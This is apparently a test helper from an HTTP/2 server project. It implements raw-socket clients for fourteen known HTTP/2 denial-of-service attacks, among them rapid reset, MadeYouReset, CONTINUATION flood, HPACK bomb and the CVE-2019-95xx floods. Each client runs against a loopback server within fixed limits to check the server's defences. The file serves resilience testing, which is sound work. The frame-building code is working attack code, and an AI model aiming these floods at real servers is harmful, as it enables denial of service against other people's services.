"""Raw-socket attack clients, one per known HTTP/2 flood and resource attack (issue 9).

Each attack runs against a real server on loopback for a bounded time (and a bounded number of
frames), reconnecting when the server ends its connection, and reports how its connections
ended. Run it as a script in its own process, so that it competes with the server for CPU as a
real attacker would, but not for the test process's GIL (the legitimate client runs there)::

    python tests/helpers/attack_clients.py CLASS PORT SECONDS    # one JSON line on stdout

The report: ``connections`` opened, ``outcomes`` (per connection: ``goaway`` — the error code
of the server's last GOAWAY, or null — ``closed`` — the server closed it, ``sent`` bytes,
``resets`` — RST_STREAM frames received by error code), ``frames`` sent. Frames are built
once per connection and sent in batches (pure Python would otherwise be the bottleneck, not
the server).

Classes (:data:`ATTACKS`): the CVE-2019-95xx family (9511 data dribble, 9512 ping flood, 9513
priority loop, 9514 reset flood, 9515 settings flood, 9516 zero-length headers, 9517 internal
buffering, 9518 empty frames), rapid reset (CVE-2023-44487), MadeYouReset (CVE-2025-8671),
CONTINUATION flood (CVE-2024-27316 family), HPACK bomb (CVE-2016-6581), too many streams, slow
read.
"""
from __future__ import annotations

import json
import select
import socket
import struct
import sys
import time

__all__ = ["ATTACKS", "run"]

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH_PROMISE, PING, GOAWAY, WINDOW_UPDATE, \
    CONTINUATION = range(10)
END_STREAM, ACK, END_HEADERS = 0x1, 0x1, 0x4
MAX_WINDOW = 2**31 - 1
#: Frames one attack connection sends at most, and connections one attack opens at most
#: (bounds besides time).
MAX_FRAMES = 400_000
MAX_CONNECTIONS = 3000


def frame(ftype: int, flags: int, sid: int, payload: bytes = b"") -> bytes:
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", ftype, flags, sid) + payload


def settings(**values) -> bytes:
    ids = {"window": 0x4, "frame": 0x5, "table": 0x1, "streams": 0x3}
    return frame(SETTINGS, 0, 0, b"".join(struct.pack(">HI", ids[k], v)
                                          for k, v in values.items()))


def _integer(value: int, prefix_bits: int, first: int = 0) -> bytes:
    """An HPACK integer (RFC 7541 §5.1) with ``first`` in the bits above the prefix."""
    limit = (1 << prefix_bits) - 1
    if value < limit:
        return bytes([first | value])
    out = [first | limit]
    value -= limit
    while value >= 128:
        out.append(0x80 | value % 128)
        value //= 128
    return bytes(out + [value])


def _string(s: bytes) -> bytes:
    return _integer(len(s), 7) + s     # no Huffman


def _literal(name: bytes, value: bytes, indexing: bool = False) -> bytes:
    """HPACK literal field with a new name, without or with incremental indexing
    (RFC 7541 §6.2.2, §6.2.1)."""
    return (b"\x40" if indexing else b"\x00") + _string(name) + _string(value)


def request_block(path: bytes = b"/", method: bytes = b"GET") -> bytes:
    """A request field block that never touches the dynamic table (the same bytes every
    time): :method, :scheme http and :path from the static table when they are there."""
    method_field = {b"GET": b"\x82", b"POST": b"\x83"}[method]
    path_field = b"\x84" if path == b"/" else b"\x04" + bytes([len(path)]) + path
    return method_field + b"\x86" + path_field + _literal(b":authority", b"localhost")


def headers(sid: int, block: bytes, end_stream: bool = True, end_headers: bool = True) -> bytes:
    return frame(HEADERS, (END_STREAM if end_stream else 0) | (END_HEADERS if end_headers else 0),
                 sid, block)


def window_update(sid: int, increment: int) -> bytes:
    return frame(WINDOW_UPDATE, 0, sid, struct.pack(">I", increment))


class Conn:
    """One attack connection: batched sends, optional draining of what the server sends, and
    the GOAWAY error code seen."""

    def __init__(self, port: int, *, rcvbuf: int = 0, read: bool = True) -> None:
        self.sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        if rcvbuf:   # before connect: the window scale is negotiated in the handshake
            self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, rcvbuf)
        self.sock.connect(("127.0.0.1", port))
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.sock.setblocking(False)
        self.read = read
        self.closed = False
        self.goaway: int | None = None
        #: RST_STREAM error codes received (code -> count).
        self.resets: dict[int, int] = {}
        self.sent = 0
        self.received = 0
        self._pending = b""

    def send(self, data: bytes, deadline: float) -> bool:
        """Send ``data`` (until ``deadline``); False once the server closed the connection."""
        view = memoryview(data)
        while view and not self.closed:
            if time.monotonic() >= deadline:
                return False
            if self.read:
                self.drain()
            try:
                _, writable, _ = select.select([], [self.sock], [], 0.2)
                if not writable:
                    continue
                n = self.sock.send(view[:262144])
            except BlockingIOError:
                continue
            except (BrokenPipeError, ConnectionResetError):
                self.closed = True
                return False
            self.sent += n
            view = view[n:]
        return not self.closed

    def drain(self, timeout: float = 0.0, budget: float = 0.05) -> None:
        """Read what is there (waiting up to ``timeout`` for something), for at most
        ``budget`` seconds (a server that sends without pause keeps something there)."""
        until = time.monotonic() + timeout + budget
        while not self.closed and time.monotonic() < until:
            ready, _, _ = select.select([self.sock], [], [], timeout)
            if not ready:
                return
            try:
                data = self.sock.recv(1 << 20)
            except BlockingIOError:
                return
            except ConnectionResetError:
                self.closed = True
                return
            if not data:
                self.closed = True
                return
            self.received += len(data)
            self._scan(data)
            timeout = 0.0

    def _scan(self, data: bytes) -> None:
        """Follow frame boundaries; remember the error codes of GOAWAY and RST_STREAM."""
        buf = self._pending + data
        pos = 0
        while len(buf) - pos >= 9:
            length = int.from_bytes(buf[pos:pos + 3], "big")
            if len(buf) - pos < 9 + length:
                break
            ftype = buf[pos + 3]
            if ftype == GOAWAY and length >= 8:
                self.goaway = int.from_bytes(buf[pos + 13:pos + 17], "big")
            elif ftype == RST_STREAM and length == 4:
                code = int.from_bytes(buf[pos + 9:pos + 13], "big")
                self.resets[code] = self.resets.get(code, 0) + 1
            pos += 9 + length
        self._pending = buf[pos:]

    def finish(self, linger: float = 1.0) -> dict:
        """Read what the server still sends (briefly), close, report."""
        deadline = time.monotonic() + linger
        while not self.closed and time.monotonic() < deadline:
            self.drain(0.1)
        self.sock.close()
        return {"goaway": self.goaway, "closed": self.closed, "sent": self.sent,
                "resets": self.resets}


# -- the attacks: each sends until ``deadline`` or the server ends the connection ---------------
def _flood(conn: Conn, unit: bytes, deadline: float, frames_per_unit: int, budget: list) -> None:
    batch = unit * max(1, 65536 // len(unit))
    per_batch = frames_per_unit * (len(batch) // len(unit))
    while budget[0] > 0 and conn.send(batch, deadline):
        budget[0] -= per_batch


def _new_streams(conn: Conn, per_stream, streams: int, frames_per_stream: int, deadline: float,
                 budget: list) -> None:
    """Batches of ``streams`` new streams (odd ids, in order), ``per_stream(sid)`` bytes each,
    until the budget or the time is spent or the server ends the connection."""
    sid = 1
    while budget[0] > 0 and not conn.closed and time.monotonic() < deadline:
        conn.send(b"".join(per_stream(s) for s in range(sid, sid + 2 * streams, 2)), deadline)
        sid += 2 * streams
        budget[0] -= streams * frames_per_stream


def reset_flood(port, deadline, budget):
    """CVE-2019-9514: frames that make the server send RST_STREAM (a WINDOW_UPDATE overflowing
    the window of a stream just opened), never reading."""
    conn = Conn(port, read=False)
    conn.send(PREFACE + settings(), deadline)
    block = request_block()
    _new_streams(conn, lambda s: headers(s, block) + window_update(s, MAX_WINDOW), 1000, 2,
                 deadline, budget)
    return conn


def settings_flood(port, deadline, budget):
    """CVE-2019-9515: SETTINGS frames, never reading the ACKs."""
    conn = Conn(port, read=False)
    conn.send(PREFACE + settings(), deadline)
    _flood(conn, settings(window=65535), deadline, 1, budget)
    return conn


def empty_frames(port, deadline, budget):
    """CVE-2019-9518: endless empty DATA frames on an open request (and empty
    CONTINUATIONs would follow: the frame layer allows 64 per field block)."""
    conn = Conn(port)
    conn.send(PREFACE + settings() + headers(1, request_block(b"/echo", b"POST"),
                                             end_stream=False), deadline)
    _flood(conn, frame(DATA, 0, 1), deadline, 1, budget)
    return conn


def internal_buffering(port, deadline, budget):
    """CVE-2019-9517: windows opened wide, 100 large responses asked for, nothing read (and a
    small TCP receive buffer)."""
    conn = Conn(port, rcvbuf=4096, read=False)
    block = request_block(b"/bytes/8388608")
    conn.send(PREFACE + settings(window=MAX_WINDOW) + window_update(0, MAX_WINDOW - 65535)
              + b"".join(headers(2 * i + 1, block) for i in range(100)), deadline)
    budget[0] -= 102
    while time.monotonic() < deadline and not conn.closed:
        time.sleep(0.1)
    return conn


def madeyoureset(port, deadline, budget):
    """CVE-2025-8671: requests for large responses, each reset by the server at once for a
    frame we send on purpose (DATA after END_STREAM: STREAM_CLOSED); everything is read."""
    conn = Conn(port)
    conn.send(PREFACE + settings(), deadline)
    block = request_block(b"/bytes/4194304")
    _new_streams(conn, lambda s: headers(s, block) + frame(DATA, 0, s, b"x"), 100, 2, deadline,
                 budget)
    return conn


def priority_loop(port, deadline, budget):
    """CVE-2019-9513: PRIORITY frames reshuffling the dependency tree of 10 open requests
    over and over."""
    conn = Conn(port)
    conn.send(PREFACE + settings()
              + b"".join(headers(2 * i + 1, request_block(b"/echo", b"POST"), False)
                         for i in range(10)), deadline)
    unit = b"".join(frame(PRIORITY, 0, 2 * i + 1,
                          struct.pack(">IB", (2 * ((i + k) % 10) + 1) | 0x80000000, 200))
                    for k in range(1, 10) for i in range(10) if (i + k) % 10 != i)
    _flood(conn, unit, deadline, len(unit) // 14, budget)
    return conn


def data_dribble(port, deadline, budget):
    """CVE-2019-9511: windows of 0, then 1-byte WINDOW_UPDATEs on 100 streams: the server
    would send 1-byte DATA frames."""
    conn = Conn(port)
    block = request_block(b"/bytes/1048576")
    conn.send(PREFACE + settings(window=0)
              + b"".join(headers(2 * i + 1, block) for i in range(100)), deadline)
    unit = b"".join(window_update(2 * i + 1, 1) for i in range(100)) + window_update(0, 100)
    _flood(conn, unit, deadline, 101, budget)
    return conn


def ping_flood(port, deadline, budget):
    """CVE-2019-9512: PINGs, as fast as they go; the ACKs are read."""
    conn = Conn(port)
    conn.send(PREFACE + settings(), deadline)
    _flood(conn, frame(PING, 0, 0, b"attack!!"), deadline, 1, budget)
    return conn


def zero_length_headers(port, deadline, budget):
    """CVE-2019-9516: requests with hundreds of empty header names and values."""
    conn = Conn(port)
    conn.send(PREFACE + settings(), deadline)
    block = request_block() + b"\x00\x00\x00" * 600
    _new_streams(conn, lambda s: headers(s, block), 100, 1, deadline, budget)
    return conn


def rapid_reset(port, deadline, budget):
    """CVE-2023-44487: HEADERS then RST_STREAM at once, stream after stream."""
    conn = Conn(port)
    conn.send(PREFACE + settings(), deadline)
    block = request_block(b"/slow?1")
    _new_streams(conn, lambda s: headers(s, block) + frame(RST_STREAM, 0, s, b"\0\0\0\x08"),
                 200, 2, deadline, budget)
    return conn


def continuation_flood(port, deadline, budget):
    """CVE-2024-27316 family: a field block that never ends (CONTINUATION after
    CONTINUATION, each a few KiB of header bytes)."""
    conn = Conn(port)
    conn.send(PREFACE + settings() + headers(1, request_block(), True, False), deadline)
    unit = frame(CONTINUATION, 0, 1, _literal(b"x-a", b"b" * 100) * 40)
    _flood(conn, unit, deadline, 1, budget)
    return conn


def hpack_bomb(port, deadline, budget):
    """CVE-2016-6581: one 4 KB header put in the dynamic table, then referenced thousands of
    times in a small block (it would decode to 64 MB)."""
    conn = Conn(port)
    big = _literal(b"bomb", b"b" * 4000, indexing=True)       # 4036 bytes of the 4096 table
    block = request_block() + big + b"\xbe" * 16000            # dynamic index 62, again and again
    conn.send(PREFACE + settings(), deadline)
    sid = 1
    while budget[0] > 0 and not conn.closed and time.monotonic() < deadline:
        conn.send(headers(sid, block[:16384]) if len(block) <= 16384 else
                  headers(sid, block[:16000], True, False)
                  + frame(CONTINUATION, END_HEADERS, sid, block[16000:]), deadline)
        sid += 2
        budget[0] -= 2
    return conn


def too_many_streams(port, deadline, budget):
    """Streams far beyond SETTINGS_MAX_CONCURRENT_STREAMS (requests that never end)."""
    conn = Conn(port)
    conn.send(PREFACE + settings(), deadline)
    block = request_block(b"/echo", b"POST")
    _new_streams(conn, lambda s: headers(s, block, end_stream=False), 200, 1, deadline, budget)
    return conn


def slow_read(port, deadline, budget):
    """Large responses on 100 streams, read a few bytes at a time (a small TCP receive
    buffer, 1 KiB every 50 ms)."""
    conn = Conn(port, rcvbuf=4096, read=False)
    block = request_block(b"/bytes/8388608")
    conn.send(PREFACE + settings(window=MAX_WINDOW) + window_update(0, MAX_WINDOW - 65535)
              + b"".join(headers(2 * i + 1, block) for i in range(100)), deadline)
    while time.monotonic() < deadline and not conn.closed:
        ready, _, _ = select.select([conn.sock], [], [], 0.05)
        if ready:
            try:
                data = conn.sock.recv(1024)
            except ConnectionResetError:
                conn.closed = True
                break
            if not data:
                conn.closed = True
            conn._scan(data)
    return conn


ATTACKS = {
    "reset_flood": reset_flood,
    "settings_flood": settings_flood,
    "empty_frames": empty_frames,
    "internal_buffering": internal_buffering,
    "madeyoureset": madeyoureset,
    "priority_loop": priority_loop,
    "data_dribble": data_dribble,
    "ping_flood": ping_flood,
    "zero_length_headers": zero_length_headers,
    "rapid_reset": rapid_reset,
    "continuation_flood": continuation_flood,
    "hpack_bomb": hpack_bomb,
    "too_many_streams": too_many_streams,
    "slow_read": slow_read,
}


def run(name: str, port: int, seconds: float) -> dict:
    """Run attack ``name`` for ``seconds``, reconnecting whenever the server ends the
    connection (at most MAX_CONNECTIONS)."""
    attack = ATTACKS[name]
    deadline = time.monotonic() + seconds
    outcomes = []
    frames = 0
    while time.monotonic() < deadline and len(outcomes) < MAX_CONNECTIONS:
        budget = [MAX_FRAMES]
        try:
            conn = attack(port, deadline, budget)
        except ConnectionRefusedError:
            outcomes.append({"goaway": None, "closed": True, "sent": 0, "resets": {},
                             "refused": True})
            time.sleep(0.05)
            continue
        frames += MAX_FRAMES - budget[0]
        outcomes.append(conn.finish(0.5 if conn.closed else 1.0))
        if not conn.closed and budget[0] <= 0:
            time.sleep(0.05)      # (the server still serves it: its frame bound is reached)
    return {"attack": name, "connections": len(outcomes), "outcomes": outcomes,
            "frames": frames}


if __name__ == "__main__":
    print(json.dumps(run(sys.argv[1], int(sys.argv[2]), float(sys.argv[3]))))
